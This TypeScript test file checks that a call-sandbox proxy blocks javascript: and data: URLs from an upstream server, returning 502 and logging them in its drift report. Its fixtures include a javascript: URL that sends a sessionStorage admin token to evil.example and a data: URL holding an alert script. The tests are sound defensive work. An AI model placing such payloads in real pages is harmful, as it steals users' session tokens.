import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { answer, createSandbox } from '../src/index.js'
import { call, closeServer, fakeUpstream, sandboxServer } from './support/proxies.js'
import { tempFolder } from './support/tempFolder.js'
import { NOW } from './support/transports.js'

/*
 * Proxy mode in front of an upstream whose URLs are not all http(s): a URL a
 * browser would run (javascript:, data:) never reaches the client, nor a
 * recording; the drift report names it.
 */

const SCRIPT_URL = 'JavaScript:fetch("https://evil.example/?" + sessionStorage.getItem("call-sandbox-admin-token"))'
const DATA_URL = 'data:text/html,<script>alert(1)</script>'

/**
 * An upstream answering as a sandbox would, but the newest call's `recording_url` is `SCRIPT_URL` (in the lists and
 * in its own answer), the newest appointment's `calendar_event_link` is `DATA_URL`, and a list of calls asked with a
 * `status` filter has an empty `recording_url`.
 */
async function upstreamWithUnsafeUrls(): Promise<{ url: string; hostileCall: string; hostileStatus: string }> {
  const world = createSandbox({ now: NOW })
  await world.ready
  const read = async (url: URL | string, authorization: string) =>
    (await answer(world, new Request(new URL(url, 'http://upstream.test'), { headers: { authorization } })))!
  const newest = await read('/v1/calls?limit=1', 'Bearer sk_sandbox_all')
  const { id: hostileCall, status: hostileStatus } = (await newest.json()).data[0]
  const url = await fakeUpstream(async (request, response) => {
    const asked = new URL(request.url!, 'http://upstream.test')
    const answered = await read(asked, request.headers.authorization!)
    const body = JSON.parse(await answered.text())
    const records: Array<Record<string, unknown>> = Array.isArray(body.data) ? body.data : [body.data]
    for (const record of records) {
      if (record?.id === hostileCall) record.recording_url = asked.searchParams.has('status') ? '' : SCRIPT_URL
      if (asked.pathname === '/v1/appointments' && record === records[0]) record.calendar_event_link = DATA_URL
    }
    response.writeHead(answered.status, Object.fromEntries(answered.headers)).end(JSON.stringify(body))
  })
  return { url, hostileCall, hostileStatus }
}

describe('proxy mode, in front of an upstream whose URLs are not all http(s)', () => {
  it('answers 502 upstream_unsafe_url naming the field instead of passing a javascript: or data: URL on', async () => {
    const { url, hostileCall } = await upstreamWithUnsafeUrls()
    const proxy = await sandboxServer({ proxy: url })
    for (const [path, field] of [
      ['/v1/calls?limit=3', 'data[0].recording_url'],
      [`/v1/calls/${hostileCall}`, 'data.recording_url'],
      ['/v1/appointments?limit=2', 'data[0].calendar_event_link'],
    ] as const) {
      const got = await call(proxy.url + path)
      expect(got.status, path).toBe(502)
      expect(got.body.error).toMatchObject({ type: 'api_error', code: 'upstream_unsafe_url' })
      expect(got.body.error.message).toContain(`answered ${field} with a URL that is not http: or https:`)
      expect(got.headers.get('x-sandbox-contract')).toBe('violations=1')
      expect(JSON.stringify(got.body)).not.toMatch(/javascript:|data:text/i)
    }
    // The other answers come through as they were.
    const contacts = await call(`${proxy.url}/v1/contacts?limit=2`)
    expect([contacts.status, contacts.headers.get('x-sandbox-contract')]).toEqual([200, 'ok'])
  })

  it('passes on a URL that is no URL at all (an empty recording_url) as a schema violation: no browser runs it', async () => {
    const { url, hostileCall, hostileStatus } = await upstreamWithUnsafeUrls()
    const proxy = await sandboxServer({ proxy: url })
    const got = await call(`${proxy.url}/v1/calls?status=${hostileStatus}&limit=3`)
    expect(got.status).toBe(200)
    const emptied = got.body.data.find(({ id }: { id: string }) => id === hostileCall)
    expect(emptied.recording_url).toBe('')
    const { body } = await call(`${proxy.url}/_sandbox/drift`, { key: null })
    const rules = body.data.endpoints.find(({ endpoint }: { endpoint: string }) => endpoint === 'GET /v1/calls').rules
    expect(rules.map(({ rule }: { rule: string }) => rule)).toEqual(['schema'])
  })

  it('reports each unsafe URL in the drift report under the url rule, and in the journal', async () => {
    const { url, hostileCall } = await upstreamWithUnsafeUrls()
    const proxy = await sandboxServer({ proxy: url })
    await call(`${proxy.url}/v1/calls?limit=3`)
    await call(`${proxy.url}/v1/calls/${hostileCall}`)
    const { body } = await call(`${proxy.url}/_sandbox/drift`, { key: null })
    const rulesOf = (endpoint: string) =>
      body.data.endpoints.find((entry: { endpoint: string }) => entry.endpoint === endpoint).rules
    const [list] = rulesOf('GET /v1/calls')
    expect(list).toMatchObject({ rule: 'url', violations: 1, answers: 1 })
    expect(list.promise).toMatch(/^Every URL is http: or https:/)
    expect(list.examples[0]).toMatchObject({
      request: 'GET /v1/calls?limit=3',
      status: 200,
      field: 'data[0].recording_url',
      got: JSON.stringify(SCRIPT_URL),
    })
    expect(rulesOf('GET /v1/calls/:call_id')[0]).toMatchObject({
      rule: 'url',
      examples: [{ field: 'data.recording_url' }],
    })
    expect(body.data.answers_with_violations).toBe(2)

    const journal = await call(`${proxy.url}/_sandbox/requests?limit=1`, { key: null })
    expect(journal.body.data[0]).toMatchObject({
      status: 502,
      contract: { violation_count: 1, violations: [{ rule: 'url', field: 'data.recording_url' }] },
    })
  })

  it('records nothing of an answer it refused', async () => {
    const { url, hostileCall } = await upstreamWithUnsafeUrls()
    const file = join(tempFolder('proxy-urls'), 'recorded.json')
    const proxy = await sandboxServer({ proxy: url, record: file })
    expect((await call(`${proxy.url}/v1/calls?limit=3`)).status).toBe(502)
    expect((await call(`${proxy.url}/v1/calls?limit=3&status=completed`)).status).toBe(200)
    await closeServer(proxy)
    const recording = JSON.parse(readFileSync(file, 'utf8'))
    const recorded = recording.records.calls.map(({ id }: { id: string }) => id)
    expect(recorded.length).toBeGreaterThan(0)
    expect(recorded).not.toContain(hostileCall)
    expect(JSON.stringify(recording)).not.toMatch(/javascript:/i)
  })
})
